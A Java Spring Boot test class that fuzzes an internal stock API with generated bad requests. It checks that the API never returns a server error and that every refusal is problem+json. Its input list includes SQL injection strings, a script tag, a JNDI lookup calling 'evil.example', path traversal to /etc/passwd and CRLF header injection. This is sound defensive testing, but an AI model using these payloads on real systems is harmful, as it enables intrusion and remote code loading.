package dev.lotussaga.stock.product;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

/**
 * Generated bad input against the internal stock API (the same cases on every run; {@code
 * -Dlotus.attack.seed=N} draws others): never a server error, every refusal a problem+json.
 */
@SpringBootTest
@AutoConfigureMockMvc
@ActiveProfiles("test")
class StockApiBadInputTest {

  private static final long SEED = Long.getLong("lotus.attack.seed", 7_2026L);
  private static final int CASES = 300;

  /** Tomcat refuses an encoded NUL in a path (400) before the service; MockMvc would not. */
  private static final List<String> HOSTILE =
      List.of(
          "' OR '1'='1",
          "1; DROP TABLE account; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "{userId}",
          "%s%n",
          "../../etc/passwd",
          "a\u0000b",
          "\u0007\u001b[31m",
          "\r\nX: y",
          "\u202e",
          "日本語",
          "😀",
          "\ud800",
          "",
          " ",
          "x".repeat(5000),
          "0",
          "-1",
          "-0",
          "0.001",
          "1.005",
          "1000000000.01",
          "99999999999999999999999999",
          "9223372036854775808",
          "-9223372036854775809",
          "1e400",
          "1E-400",
          "1e2147483648",
          "NaN",
          "Infinity",
          "0x10",
          " 1",
          "1,5",
          "١٢٣",
          "+100");

  @Autowired MockMvc http;

  private final ObjectMapper json = new ObjectMapper();
  private final Map<Integer, Integer> statuses = new TreeMap<>();

  @TestFactory
  Stream<DynamicTest> badInputIsRefusedWithAProblemNeverAServerError() {
    Random random = new Random(SEED);
    Stream<DynamicTest> cases =
        IntStream.range(0, CASES)
            .mapToObj(
                i -> {
                  Attempt attempt = random.nextBoolean() ? addition(random) : stock(random);
                  return DynamicTest.dynamicTest("#" + i + " " + attempt, () -> check(attempt));
                });
    return Stream.concat(
        cases, Stream.of(DynamicTest.dynamicTest("enough cases, mostly refused", this::tallied)));
  }

  private Attempt addition(Random random) {
    Attempt attempt = new Attempt("POST", "/internal/products/" + productId(random) + "/additions");
    if (random.nextInt(8) != 0) {
      attempt.params.add(new String[] {"units", random.nextInt(3) == 0 ? "1" : hostile(random)});
    }
    return spoiled(attempt, random);
  }

  private Attempt stock(Random random) {
    return spoiled(new Attempt("GET", "/internal/products/" + productId(random)), random);
  }

  /** Mostly product 1 or one that does not exist; units only ever added one at a time. */
  private String productId(Random random) {
    return switch (random.nextInt(4)) {
      case 0 -> "1";
      case 1 -> Integer.toString(1_000_000 + random.nextInt(1_000_000));
      default -> encode(hostile(random).replace("\u0000", ""));
    };
  }

  /** Sometimes another method, an extra parameter, odd headers or a body nobody reads. */
  private Attempt spoiled(Attempt attempt, Random random) {
    if (random.nextInt(6) == 0) {
      attempt.method = List.of("GET", "POST", "PUT", "DELETE", "PATCH").get(random.nextInt(5));
    }
    if (random.nextInt(5) == 0) {
      attempt.params.add(new String[] {random.nextBoolean() ? "units" : "userId", hostile(random)});
    }
    if (random.nextInt(5) == 0) {
      attempt.headers.put(
          random.nextBoolean() ? "Content-Type" : "Accept",
          List.of(
                  "*/*",
                  "application/*",
                  "json",
                  "text/html",
                  "application/json; charset=nope",
                  "'; --")
              .get(random.nextInt(6)));
    }
    if (random.nextInt(8) == 0) {
      attempt.body = hostile(random);
    }
    return attempt;
  }

  private void check(Attempt attempt) throws Exception {
    MockHttpServletResponse response;
    try {
      response = http.perform(attempt.build()).andReturn().getResponse();
    } catch (Exception escaped) {
      throw new AssertionError("a server error for " + attempt, escaped);
    }
    int status = response.getStatus();
    statuses.merge(status, 1, Integer::sum);
    String body = response.getContentAsString(StandardCharsets.UTF_8);
    String seen = attempt + " => " + status + " " + response.getContentType() + " " + body;
    assertThat(status / 100).as(seen).isIn(2, 4);
    assertThat(body).as(seen).doesNotContain("Exception", "\tat ");
    if (status >= 400) {
      assertThat(response.getContentType()).as(seen).isNotNull();
      assertThat(
              MediaType.parseMediaType(response.getContentType())
                  .isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
          .as(seen)
          .isTrue();
      assertThat(json.readTree(body).path("status").asInt()).as(seen).isEqualTo(status);
    }
  }

  private void tallied() {
    int cases = statuses.values().stream().mapToInt(i -> i).sum();
    int refused =
        statuses.entrySet().stream()
            .filter(e -> e.getKey() / 100 == 4)
            .mapToInt(Map.Entry::getValue)
            .sum();
    System.out.printf("Stock API attack, seed %d: %d cases %s%n", SEED, cases, statuses);
    assertThat(cases).isEqualTo(CASES);
    assertThat(refused).as("refused: %s", statuses).isGreaterThanOrEqualTo(CASES / 2);
  }

  private static String hostile(Random random) {
    return HOSTILE.get(random.nextInt(HOSTILE.size()));
  }

  private static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static final class Attempt {
    String method;
    final String path;
    final List<String[]> params = new ArrayList<>();
    final Map<String, String> headers = new LinkedHashMap<>();
    String body;

    Attempt(String method, String path) {
      this.method = method;
      this.path = path;
    }

    MockHttpServletRequestBuilder build() {
      MockHttpServletRequestBuilder request = request(HttpMethod.valueOf(method), URI.create(path));
      params.forEach(param -> request.param(param[0], param[1]));
      headers.forEach(request::header);
      if (body != null) {
        request.content(body);
      }
      return request;
    }

    @Override
    public String toString() {
      StringBuilder text = new StringBuilder(method + " " + path);
      params.forEach(p -> text.append(" ").append(p[0]).append("=").append(p[1]));
      headers.forEach(
          (name, value) -> text.append(" [").append(name).append(": ").append(value).append("]"));
      if (body != null) {
        text.append(" body=").append(body);
      }
      String shown = text.length() > 300 ? text.substring(0, 300) + "…" : text.toString();
      return shown.replaceAll("\\p{Cntrl}", "?");
    }
  }
}
